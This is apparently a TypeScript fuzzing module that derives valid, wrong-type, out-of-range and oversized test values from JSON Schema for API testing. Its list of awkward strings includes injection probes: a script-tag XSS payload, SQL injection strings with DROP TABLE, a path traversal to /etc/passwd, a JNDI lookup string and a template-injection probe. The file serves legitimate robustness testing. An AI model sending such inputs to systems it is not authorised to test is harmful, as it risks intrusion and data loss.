import { randomUUID } from 'node:crypto';
import type { Random } from './seeded-random.ts';

/** The part of JSON Schema (as fastify-type-provider-zod writes it) the fuzzer reads. */
export type JsonSchema = {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  enum?: unknown[];
  const?: unknown;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  minItems?: number;
  maxItems?: number;
  format?: string;
  pattern?: string;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  default?: unknown;
};

/** Where a valid-looking value comes from when the schema alone cannot say (ids of real rows). */
export type ValueSources = { ids: () => readonly string[] };

/** The schema's own types, with anyOf/oneOf/allOf branches folded in. */
export function typesOf(schema: JsonSchema): Set<string> {
  const types = new Set<string>();
  const own = schema.type;
  if (typeof own === 'string') types.add(own);
  if (Array.isArray(own)) for (const type of own) types.add(type);
  for (const branch of [...(schema.anyOf ?? []), ...(schema.oneOf ?? []), ...(schema.allOf ?? [])]) {
    for (const type of typesOf(branch)) types.add(type);
  }
  if (schema.enum) for (const value of schema.enum) types.add(value === null ? 'null' : typeof value);
  if (schema.properties) types.add('object');
  return types;
}

/** The non-null branch a valid value is built from: anyOf/oneOf's first, allOf merged. */
function concrete(schema: JsonSchema): JsonSchema {
  const branches = schema.anyOf ?? schema.oneOf;
  if (branches) {
    const chosen = branches.find((branch) => !typesOf(branch).has('null') || typesOf(branch).size > 1) ?? branches[0]!;
    return concrete({ ...schema, anyOf: undefined, oneOf: undefined, ...chosen });
  }
  if (schema.allOf) {
    return concrete(schema.allOf.reduce<JsonSchema>((merged, part) => ({ ...merged, ...part }), { ...schema, allOf: undefined }));
  }
  return schema;
}

function primaryType(schema: JsonSchema): string {
  const types = [...typesOf(schema)].filter((type) => type !== 'null');
  return types[0] ?? 'null';
}

/** A string that passes the usual password-like patterns ([a-z], [A-Z], [0-9]) and fits the bounds. */
function validString(schema: JsonSchema, name: string, random: Random, sources: ValueSources): string {
  if (schema.format === 'uuid') {
    const ids = sources.ids();
    return ids.length > 0 && random.chance(0.7) ? random.pick(ids) : randomUUID();
  }
  if (schema.format === 'date-time') return new Date(Date.UTC(2030, 0, 1)).toISOString();
  if (schema.format === 'uri' || /url|website/i.test(name)) return 'https://example.com/fuzz';
  if (/email/i.test(name)) return `fuzz-${random.int(0, 1e9)}@acme-test.example`;
  const base = 'Fuzz Value1a';
  const min = schema.minLength ?? 1;
  const max = schema.maxLength ?? Math.max(min, base.length);
  const text = base.padEnd(min, 'x');
  return text.slice(0, max);
}

/** A value the schema accepts (as far as the schema says: reference slugs and the like may still be refused). */
export function validValue(input: JsonSchema, random: Random, sources: ValueSources, name = ''): unknown {
  const schema = concrete(input);
  if ('const' in schema) return schema.const;
  if (schema.enum && schema.enum.length > 0) return random.pick(schema.enum);
  switch (primaryType(schema)) {
    case 'string':
      return validString(schema, name, random, sources);
    case 'integer':
    case 'number': {
      const min = schema.minimum ?? (schema.exclusiveMinimum !== undefined ? schema.exclusiveMinimum + 1 : 1);
      const max = schema.maximum ?? (schema.exclusiveMaximum !== undefined ? schema.exclusiveMaximum - 1 : min + 10);
      return Math.min(max, Math.max(min, 1));
    }
    case 'boolean':
      return true;
    case 'array': {
      const count = Math.max(1, schema.minItems ?? 0);
      return Array.from({ length: count }, () => validValue(schema.items ?? { type: 'string' }, random, sources, name));
    }
    case 'object':
      return Object.fromEntries(
        Object.entries(schema.properties ?? {}).map(([key, property]) => [key, validValue(property, random, sources, key)]),
      );
    default:
      return null;
  }
}

const EVERY_KIND: readonly [string, unknown][] = [
  ['integer', 0],
  ['integer', -1],
  ['number', 1.5],
  ['boolean', true],
  ['boolean', false],
  ['null', null],
  ['array', []],
  ['array', ['a', 1, null]],
  ['object', {}],
  ['object', { $gt: '' }],
  ['string', ''],
  ['string', 'not the expected type'],
  ['string', '123'],
  ['string', 'true'],
  ['string', 'null'],
];

/** Values of a JSON type the schema does not allow (every kind when it allows anything). */
export function wrongTypeValues(schema: JsonSchema): unknown[] {
  const allowed = typesOf(schema);
  if (allowed.has('number')) allowed.add('integer');
  const wrong = EVERY_KIND.filter(([kind]) => !allowed.has(kind)).map(([, value]) => value);
  return wrong.length > 0 ? wrong : EVERY_KIND.map(([, value]) => value);
}

/** Numbers outside the bounds, non-integers for integers, and the extremes JSON can carry. */
export function outOfRangeValues(input: JsonSchema): unknown[] {
  const schema = concrete(input);
  const values: unknown[] = [-1, 0, 2 ** 31, 2 ** 53 + 2, -(2 ** 63), 1e308, -1e308, 5e-324, -0];
  if (schema.minimum !== undefined) values.push(schema.minimum - 1, schema.minimum - 0.5);
  if (schema.maximum !== undefined) values.push(schema.maximum + 1, schema.maximum + 0.5);
  if (schema.exclusiveMinimum !== undefined) values.push(schema.exclusiveMinimum);
  if (schema.exclusiveMaximum !== undefined) values.push(schema.exclusiveMaximum);
  if (primaryType(schema) === 'integer') values.push(1.25, 0.1);
  // Numbers in string clothing, for query strings and loose parsers.
  values.push('1e309', 'NaN', 'Infinity', '-1', '0x10', '1_000', ' 1', '١٢');
  return values;
}

/** Strings and arrays past their bounds, and sizes a schema without bounds should still survive. */
export function sizeValues(input: JsonSchema): unknown[] {
  const schema = concrete(input);
  const type = primaryType(schema);
  if (type === 'array') {
    const item = schema.items ? 'x' : 'x';
    const values: unknown[] = [Array.from({ length: 10_000 }, () => item), Array.from({ length: 1_000 }, () => ({}))];
    if (schema.maxItems !== undefined) values.push(Array.from({ length: schema.maxItems + 1 }, (_, i) => `item-${i}`));
    if (schema.minItems !== undefined && schema.minItems > 0) values.push([]);
    return values;
  }
  const values: unknown[] = ['x'.repeat(100_000), 'é'.repeat(20_000), '😀'.repeat(10_000)];
  if (schema.maxLength !== undefined) values.push('y'.repeat(schema.maxLength + 1), '😀'.repeat(schema.maxLength));
  if (schema.minLength !== undefined && schema.minLength > 0) values.push('z'.repeat(schema.minLength - 1));
  return values;
}

/** Text a person or a browser can send that naive code mishandles: NUL, lone surrogates, controls... */
export const AWKWARD_STRINGS: readonly string[] = [
  '\u0000',
  'nul\u0000inside',
  '\ud800',
  'lone \udfff low surrogate',
  'broken pair \ud83d',
  '\ufeffbom first',
  '\u202eright-to-left override',
  '\u0085\u2028\u2029 line separators',
  'e\u0301'.repeat(500),
  '\u0001\u0002\u0003\u001f\u007f',
  '   ',
  '\r\n\r\n',
  '\t',
  '<script>alert(1)</script>',
  "' OR 1=1 --",
  '"; DROP TABLE users; --',
  '../../../../etc/passwd',
  '%00',
  '%C0%AF',
  '${jndi:ldap://example.com/a}',
  '{{7*7}}',
  '\\',
  '\\u0000',
  '👨‍👩‍👧‍👦🏳️‍🌈',
  '𝕳𝖊𝖑𝖑𝖔',
  '￿',
  '\uFFFD',
];
